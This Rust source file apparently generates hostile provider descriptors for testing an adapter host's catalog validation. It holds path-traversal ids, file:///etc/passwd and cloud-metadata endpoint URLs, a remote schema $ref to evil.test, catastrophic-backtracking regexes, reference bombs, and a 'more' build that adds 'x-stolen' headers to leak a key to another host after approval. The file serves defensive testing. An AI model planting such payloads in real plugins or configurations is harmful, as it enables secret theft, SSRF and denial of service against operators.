//! What a copy says about itself: mostly the same, with a name of its own; for some copies the catalog is the attack.

use crate::{behavior, bindings::exports::witgate::adapter::catalog::Provider, raw, turn::quoted};

/// Members of a descriptor, each with its JSON.
struct Descriptor(Vec<(&'static str, String)>);

pub(crate) fn providers() -> Vec<Provider> {
    let (name, id) = (behavior::name(), behavior::provider());
    let provider = |id: &str, descriptor: &Descriptor| Provider { id: id.to_owned(), descriptor: descriptor.json() };
    let plain = Descriptor::plain(&name, &id);
    let with = |member: &'static str, json: &str| vec![provider(&id, &Descriptor::plain(&name, &id).set(member, json))];
    let said = |descriptor: String| vec![Provider { id: id.clone(), descriptor }];
    match name.as_str() {
        "utf8-id" => vec![provider(&raw::not_utf8(), &plain)],
        "utf8-descriptor" => said(raw::not_utf8()),
        "descriptor-no-json" => said("title: not JSON".to_owned()),
        "descriptor-deep" => said(format!("{}{}", "[".repeat(100_000), "]".repeat(100_000))),
        "descriptor-2-mb" => with("title", &quoted(&"x".repeat(2 << 20))),
        "providers-none" => Vec::new(),
        "providers-1000" => (0..1_000).map(|n| provider(&format!("{id}-{n}"), &plain)).collect(),
        "providers-twice" => vec![provider(&id, &plain), provider(&id, &plain)],
        "id-illegal" => vec![provider("../../etc/passwd", &plain)],
        "models-50000" => with("models", &many_models(50_000)),
        "endpoint-file" => with("endpoints", r#"[{"name": "api", "url": "file:///etc/passwd"}]"#),
        "endpoint-metadata" => {
            let own = r#"{"name": "api", "url": "https://hostile.test/v1"}"#;
            with("endpoints", &format!(r#"[{own}, {{"name": "other", "url": "http://169.254.169.254/latest"}}]"#))
        }
        "placement-host-header" => with("placements", r#"[{"endpoint": "api", "in": "header", "name": "Host"}]"#),
        "placement-body" => with("placements", r#"[{"endpoint": "api", "in": "body", "name": "stolen"}]"#),
        "operation-unknown" => with("operations", r#"["chat", "conquer"]"#),
        "variable-of-the-host" => {
            with("env", r#"{"secrets": {"key": ["WITGATE_MASTER_KEY"]}, "base_url": ["HOSTILE_BASE_URL"]}"#)
        }
        "variable-of-another" => {
            with("env", r#"{"secrets": {"key": ["HOSTILE_KEY_HARMLESS"]}, "base_url": ["HOSTILE_BASE_URL"]}"#)
        }
        "asks-for-more" => vec![provider(&id, &more(plain))],
        _ => match settings(&name) {
            Some(schema) => with("settings", &schema),
            None => vec![provider(&id, &plain)],
        },
    }
}

impl Descriptor {
    fn plain(name: &str, id: &str) -> Descriptor {
        let everywhere = matches!(name, "any" | "loop-constructor" | "loop-step");
        let operations =
            if everywhere { r#"["chat", "embeddings", "balance", "models", "count-tokens"]"# } else { r#"["chat"]"# };
        let variable: String = name.chars().map(|c| if c == '-' { '_' } else { c.to_ascii_uppercase() }).collect();
        Descriptor(Vec::new())
            .set("title", &quoted(id))
            .set("version", r#""1.0.0""#)
            .set("operations", operations)
            .set(
                "endpoints",
                r#"[{"name": "api", "url": "https://hostile.test/v1", "pasted": ["/v1"]},
                    {"name": "other", "url": "https://other.hostile.test"}]"#,
            )
            .set("secrets", r#"[{"name": "key", "title": "Key"}]"#)
            .set("placements", r#"[{"endpoint": "api", "in": "header", "name": "authorization"}]"#)
            .set("grants", r#"[{"name": "access", "title": "Access"}]"#)
            .set("settings", r#"{"type": "object"}"#)
            .set("models", &format!(r#"[{{"id": {}}}]"#, quoted(id)))
            .set(
                "env",
                &format!(r#"{{"secrets": {{"key": ["HOSTILE_KEY_{variable}"]}}, "base_url": ["HOSTILE_BASE_URL"]}}"#),
            )
    }

    /// Adds a member, or replaces it.
    fn set(mut self, name: &'static str, json: &str) -> Descriptor {
        self.0.retain(|(have, _)| *have != name);
        self.0.push((name, json.to_owned()));
        self
    }

    fn json(&self) -> String {
        let members: Vec<String> = self.0.iter().map(|(name, json)| format!("\"{name}\": {json}")).collect();
        format!("{{{}}}", members.join(", "))
    }
}

/// The build that an operator is given after a harmless one was approved.
fn more(plain: Descriptor) -> Descriptor {
    plain
        .set("version", r#""1.1.0""#)
        .set("env", r#"{"secrets": {"key": ["HOSTILE_KEY_HARMLESS"]}, "base_url": ["HOSTILE_BASE_URL"]}"#)
        .set(
            "placements",
            r#"[{"endpoint": "api", "in": "header", "name": "authorization"},
                {"endpoint": "api", "in": "header", "name": "x-stolen"},
                {"endpoint": "other", "in": "header", "name": "x-stolen"}]"#,
        )
        .set("grants", r#"[{"name": "access", "title": "Access"}, {"name": "more", "title": "More"}]"#)
}

fn many_models(count: usize) -> String {
    let models: Vec<String> = (0..count).map(|n| format!(r#"{{"id":"m{n}"}}"#)).collect();
    format!("[{}]", models.join(","))
}

fn settings(name: &str) -> Option<String> {
    let of = |properties: &str| format!(r#"{{"type": "object", "properties": {{{properties}}}}}"#);
    Some(match name {
        "settings-ref-loop" => ref_loop(),
        "settings-ref-bomb" => ref_bomb(),
        "settings-ref-remote" => of(r#""a": {"$ref": "http://evil.test/schema"}"#),
        "settings-ref-file" => of(r#""a": {"$ref": "file:///etc/passwd"}"#),
        // Takes for ever in an engine that tries one way after the other.
        "settings-regex" => {
            of(&format!(r#""a": {{"type": "string", "default": "{}!", "pattern": "^(a+)+$"}}"#, "a".repeat(50_000)))
        }
        "settings-regex-big" => {
            // Thousands of patterns, each of which becomes a large machine.
            let pattern = |n| format!(r#""p{n}": {{"type": "string", "pattern": "\\w{{90}}\\p{{L}}{{60}}{n}"}}"#);
            of(&(0..5_000).map(pattern).collect::<Vec<_>>().join(", "))
        }
        "settings-secret" => of(r#""api_key": {"type": "string"}"#),
        _ => return None,
    })
}

/// A schema that leads back to itself without looking at anything smaller.
fn ref_loop() -> String {
    r##"{"type": "object", "$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}},
        "properties": {"x": {"default": 1, "$ref": "#/$defs/a"}}}"##
        .to_owned()
}

/// Forty levels of two references each: two to the fortieth checks of one number.
fn ref_bomb() -> String {
    let level = |n: u32| {
        let next = format!(r##"{{"$ref": "#/$defs/d{}"}}"##, n + 1);
        format!(r#""d{n}": {{"allOf": [{next}, {next}]}}, "#)
    };
    format!(
        r##"{{"type": "object", "$defs": {{{}"d40": {{"type": "integer"}}}}, "properties": {{"x": {{"default": 1, "$ref": "#/$defs/d0"}}}}}}"##,
        (0..40).map(level).collect::<String>()
    )
}
